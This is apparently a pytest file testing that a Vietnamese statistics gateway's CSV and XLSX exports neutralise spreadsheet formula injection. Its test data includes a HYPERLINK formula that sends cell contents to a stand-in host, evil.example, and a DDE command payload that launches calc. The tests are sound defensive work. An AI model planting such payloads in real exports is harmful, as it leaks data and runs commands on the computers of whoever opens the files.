"""Exports neutralise text a spreadsheet would run as a formula; numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest

from dantoc_contracts.catalog import AdminUnitPublished, catalog_key
from dantoc_contracts.catalog_view import CatalogView
from dantoc_gateway.domain.selection import Observation
from dantoc_gateway.formats.cells import neutral_text
from dantoc_gateway.formats.csv_out import render_csv
from dantoc_gateway.formats.table import FIGURE_COLUMNS, table_rows
from dantoc_gateway.formats.xlsx_out import HEADER_ROW, render_xlsx
from dantoc_gateway.services.labels import Labels
from tests.support.gateway.literal import CATALOG, catalog_view

AT = datetime(2025, 1, 15, tzinfo=UTC)
HOSTILE_TYPE, NAME = '=HYPERLINK("http://evil.example/?"&A1,"Tỉnh")&"', 'Hà Giang"'
HOSTILE = f"{HOSTILE_TYPE} {NAME}"  # the label: the unit's type, then its name
KEYS = [c.key for c in FIGURE_COLUMNS]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),  # a plain number cannot run: it stays as it is
        ("-1", "-1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Tỉnh Hà Giang", "Tỉnh Hà Giang"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # numbers are numbers
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_neutral_text(cell: Any, expected: Any) -> None:
    assert neutral_text(cell) == expected


def _hostile_labels() -> Labels:
    view: CatalogView = catalog_view()
    for record in CATALOG:
        if isinstance(record, AdminUnitPublished) and record.code == "02":
            hostile = record.model_copy(update={"type": HOSTILE_TYPE, "name": NAME})
            view.apply(catalog_key(hostile), hostile)
    return Labels(view)


def _obs() -> Observation:
    return Observation(
        "0403", "02", "province", "2024", "_T", "_T", "_T", "_T", "SUM", "-5", None, None, 3, 3, 1, 1, 1, AT, AT
    )


def test_csv_with_a_hostile_label() -> None:
    body = render_csv(FIGURE_COLUMNS, table_rows([_obs()], _hostile_labels(), "vi"), "vi").decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    record = dict(zip(KEYS, rows[1], strict=True))
    assert record["unit_name"] == "'" + HOSTILE
    assert record["value"] == "-5"  # a negative figure is written as a number


def test_xlsx_with_a_hostile_label() -> None:
    rows = table_rows([_obs()], _hostile_labels(), "vi")
    body = render_xlsx(FIGURE_COLUMNS, rows, "vi", title="=cmd|' /C calc'!A0", subtitle="-unit=02")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    name = sheet.cell(row=HEADER_ROW + 1, column=KEYS.index("unit_name") + 1)
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    value = sheet.cell(row=HEADER_ROW + 1, column=KEYS.index("value") + 1)
    assert (value.value, value.data_type) == (-5, "n")
    assert (sheet["A1"].data_type, sheet["A2"].data_type) == ("s", "s")  # the title and the echoed query too
    assert sheet["A1"].quotePrefix
    assert sheet["A2"].quotePrefix
